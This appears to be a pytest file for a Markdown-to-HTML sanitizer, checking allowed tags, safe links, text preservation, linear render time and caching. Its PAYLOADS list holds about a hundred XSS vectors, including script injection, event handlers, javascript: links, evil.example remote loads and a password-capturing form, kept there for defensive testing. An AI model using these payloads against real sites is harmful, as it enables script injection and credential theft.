"""Words become HTML that can do nothing, lose none of themselves, and take no longer than their length deserves."""

from __future__ import annotations

import re
from pathlib import Path
from xml.etree.ElementTree import Element

import html5lib
import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from archive.base import text
from archive.base.digest_cache import DigestCache
from archive.base.text import excerpt, plain, render, render_comment
from tests.support.spending import least

ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}}
ADDRESS = re.compile(r"(?i:https?://|mailto:)[^\s<>\"'`\\]+|/(?![/\\])\S*|#\S*")
SHOWN_BY_READERS_ALONE = re.compile("[\u202a-\u202e\u2066-\u2069]")

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='https://good.example' onclick=alert(1)>x</a>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<textarea autofocus onfocus=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "</p></div></body><script>alert(1)</script>",
    "<a href=x<script>alert(1)</script>",
    "\x00<script\x00>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](<java script:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](blob:https://good.example/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\t/evil.example)",
    "[x](https:evil.example)",
    "[x](https:/evil.example)",
    "[x](ftp://evil.example)",
    "[x](intent://evil#Intent;scheme=http;end)",
    "[x](tel:+963944123456)",
    '[x](https://good.example "onmouseover=alert(1)")',
    "[x](https://good.example/\"onmouseover='alert(1)')",
    "[x](https://good.example/'onmouseover=alert(1))",
    "[x](https://good.example/><script>alert(1)</script>)",
    "[x](<https://good.example/ onclick=alert(1)>)",
    "[x](https://good.example\u202e/moc.live)",
    "[<script>alert(1)</script>](https://good.example)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "<javascript:alert(1)>",
    "<https://good.example/<script>>",
    "<data:text/html,x>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    "`` `<img src=x onerror=alert(1)>` ``",
    "```html\n<script>alert(1)</script>\n```",
    '```" onmouseover=alert(1) x="\ncode\n```',
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    '1000000000" onclick=alert(1). x',
    "**<script>**alert(1)**</script>**",
    "*<img src=x* onerror=alert(1)>",
    "{{ 7 * 7 }} {% raw %}",
    "${7*7} #{7*7}",
    "\u2028<script>alert(1)</script>\u2029",
    "javascript:alert(1)",
    "<x onclick=alert(1)>x</x>",
    "<p><a id=login name=csrf class=button>x</a></p>",
    "\u202egnp.exe\u202c",
    "\u2066<b>\u2069",
]


def _tree(html: str) -> Element:
    tree: Element = html5lib.parseFragment(html, namespaceHTMLElements=False)
    return tree


def _assert_harmless(html: str) -> None:
    for element in _tree(html).iter():
        tag = str(element.tag)
        if tag == "DOCUMENT_FRAGMENT":
            continue
        assert tag in text.TAGS, tag
        assert set(element.attrib) <= ATTRIBUTES.get(tag, set()), element.attrib
        if tag == "a":
            assert ADDRESS.fullmatch(element.attrib["href"]), element.attrib
            assert element.attrib["rel"] == "nofollow noopener noreferrer ugc"
        if tag == "ol" and "start" in element.attrib:
            assert element.attrib["start"].isascii() and element.attrib["start"].isdigit()
    assert not SHOWN_BY_READERS_ALONE.search("".join(_tree(html).itertext()))


def _seen(html: str) -> str:
    return re.sub(r"\s+", "", "".join(_tree(html).itertext()))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_active_comes_out(payload: str) -> None:
    for html in (render(payload), render_comment(payload), render(f"before\n\n{payload}\n\nafter")):
        assert isinstance(html, Markup)
        _assert_harmless(html)
        second_opinion = nh3.clean(
            html, tags=set(text.TAGS), attributes={"a": {"href"}, "ol": {"start"}}, link_rel=None
        )
        assert _seen(second_opinion) == _seen(html)


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p.startswith("<") and "http" not in p])
def test_markup_that_was_typed_is_shown_as_it_was_typed(payload: str) -> None:
    typed = re.sub(r"[\s\x00*]", "", payload)
    assert _seen(render(payload)) == typed


SUBSET = [
    ("one\n\ntwo", "<p>one</p>\n<p>two</p>\n", "paragraphs"),
    ("one\ntwo", "<p>one<br>\ntwo</p>\n", "line breaks as typed"),
    ("*a* **b** `c`", "<p><em>a</em> <strong>b</strong> <code>c</code></p>\n", "stress and code"),
    ("> a", "<blockquote>\n<p>a</p>\n</blockquote>\n", "a quotation"),
    ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n", "a list"),
    ("2016. Then", '<ol start="2016">\n<li>Then</li>\n</ol>\n', "a number at the start of a line is kept"),
    (
        "[a](https://example.org/?b=1&c=2)",
        '<p><a href="https://example.org/?b=1&amp;c=2" rel="nofollow noopener noreferrer ugc">a</a></p>\n',
        "a link",
    ),
    ("[a](/r/X)", '<p><a href="/r/X" rel="nofollow noopener noreferrer ugc">a</a></p>\n', "a link inside the site"),
    ("[a](//evil.example)", "<p>a</p>\n", "an address without a scheme leaves its words"),
    ("# a\n\n---\n\n    b", "<p># a</p>\n<p>---</p>\n<p>b</p>\n", "headings, rules and code blocks are not ours"),
    ("I was <there at 5", "<p>I was &lt;there at 5</p>\n", "an angle bracket is a character"),
    ("&amp; &nbsp;", "<p>&amp;amp; &amp;nbsp;</p>\n", "an entity is five characters"),
    ("[b]: http://x", "<p>[b]: http://x</p>\n", "a definition of a reference does not vanish"),
    ("a\u202eb\u2066c", "<p>abc</p>\n", "controls that reorder the page are not shown"),
    ("می\u200cخواهم", "<p>می\u200cخواهم</p>\n", "the joiners that Persian needs are"),
    ("", "", "nothing"),
    (" \n\n\t\n", "", "white space"),
]


@pytest.mark.parametrize(("typed", "html", "what"), SUBSET)
def test_the_subset_of_markdown(typed: str, html: str, what: str) -> None:
    assert render(typed) == html, what


_TYPED = st.text() | st.text(alphabet="ab <>&\"'[]()!*_`\\/-+.:#1\n>\t", max_size=200)


@given(_TYPED)
@settings(max_examples=150)
def test_any_text_is_rendered_harmlessly(typed: str) -> None:
    _assert_harmless(render(typed))


@given(_TYPED)
@settings(max_examples=150)
def test_no_letter_is_lost(typed: str) -> None:
    def letters(words: str) -> list[str]:
        # An address is not a part of the words that are shown.
        return [letter for letter in words if letter.isalpha()]

    if "](" not in typed:
        assert letters(_seen(render(typed))) == letters(typed)
        assert letters(plain(typed)) == letters(typed)


DEEP = [
    pytest.param(">" * 60 + " deep\n\nafter", id="quotations"),
    pytest.param("- " * 60 + "deep\n\nafter", id="lists"),
    pytest.param("\n".join("  " * depth + "- deep" for depth in range(60)) + "\n\nafter", id="indented lists"),
    pytest.param("*a " * 40 + "deep" + " a*" * 40 + "\n\nafter", id="stress"),
]


@pytest.mark.parametrize("typed", DEEP)
def test_what_is_nested_too_deeply_is_shown_as_typed(typed: str) -> None:
    html = render(typed)
    assert "deep" in html and "after" in html
    assert not re.search("<(?!p>|/p>|br>)", html)


HOSTILE = [
    "[",
    "<",
    "*a **b ",
    "`a",
    "> a\n",
    "[a](",
    "[a](x) ",
    "- a\n",
    "**",
    "_a__",
    "![[",
    ">",
    "a\n\n",
    "<b>",
    '"',
]


@pytest.mark.parametrize("unit", HOSTILE)
def test_no_call_to_bleach_is_long_and_time_grows_with_length(unit: str, monkeypatch: pytest.MonkeyPatch) -> None:
    lengths: list[int] = []
    clean = text._clean

    def measured(html: str) -> str:
        lengths.append(len(html))
        return clean(html)

    monkeypatch.setattr(text, "_clean", measured)
    monkeypatch.setattr(text, "_cache", DigestCache(entries=0, characters=0))

    def seconds(characters: int) -> float:
        typed = (unit * characters)[:characters]
        return least(lambda: render(typed))

    seconds(1_000)
    short, long = seconds(6_000), seconds(48_000)
    assert max(lengths) <= text.MAX_CLEANED
    # Eight times as long may cost eight times as much; a quadratic door would cost sixty-four.
    assert long < 24 * max(short, 0.004)


def test_a_long_text_keeps_its_paragraphs_and_its_words() -> None:
    typed = "\n\n".join(f"Paragraph *{number}* of a long statement." for number in range(3_000))
    html = render(typed)
    assert html.count("<p>") == html.count("<em>") == 3_000


def test_a_paragraph_that_is_too_long_for_markup_is_shown_whole() -> None:
    typed = "word *and* <tag> " * 3_000
    html = render(typed)
    assert html.count("<p>") == 1
    assert _seen(html) == re.sub(r"\s", "", typed)


def test_plain_words_for_feeds() -> None:
    typed = "A *word* and [a link](https://example.org)\nsecond line\n\n> quoted\n\n2016. Then\n\n<b> \u202eleft"
    assert plain(typed) == "A word and a link\nsecond line\nquoted\n2016. Then\n<b> left"


EXCERPTS = [
    ("short", 10, "short"),
    ("one two three", 13, "one two three"),
    ("one two three", 12, "one two…"),
    ("one two three", 8, "one two…"),
    ("onetwothree", 5, "onet…"),
    ("*one*\n\ntwo", 20, "one two"),
    ("क्षत्रिय", 3, "क्…"),
    ("word", 1, "…"),
    ("word", 0, ""),
]


@pytest.mark.parametrize(("typed", "n", "words"), EXCERPTS)
def test_an_excerpt_is_cut_between_words(typed: str, n: int, words: str) -> None:
    assert excerpt(typed, n) == words


@given(st.text(), st.integers(0, 40))
@settings(max_examples=60)
def test_an_excerpt_is_never_longer_than_asked(typed: str, n: int) -> None:
    assert len(excerpt(typed, n)) <= n


def test_a_cache_holds_what_was_asked_for_last_and_no_more() -> None:
    cache = DigestCache(entries=2, characters=1_000)
    made: list[str] = []

    def get(source: str) -> str:
        return cache.get(source, lambda: made.append(source) or source.upper())

    assert [get("a"), get("b"), get("a"), get("c"), get("a"), get("b")] == ["A", "B", "A", "C", "A", "B"]
    assert made == ["a", "b", "c", "b"]
    assert len(cache) == 2


def test_a_cache_is_bounded_in_characters() -> None:
    cache = DigestCache(entries=100, characters=100)
    for number in range(50):
        cache.get(str(number), lambda: "x" * 10)
    assert len(cache) == 10
    assert cache.get("large", lambda: "x" * 11) == "x" * 11
    assert len(cache) == 10


def test_bleach_is_behind_one_door() -> None:
    root = Path(text.__file__).parents[1]
    importers = {
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if re.search(r"^\s*(?:import|from)\s+bleach\b|import_module\(.bleach", path.read_text("utf-8"), re.MULTILINE)
    }
    assert importers == {"base/text.py"}
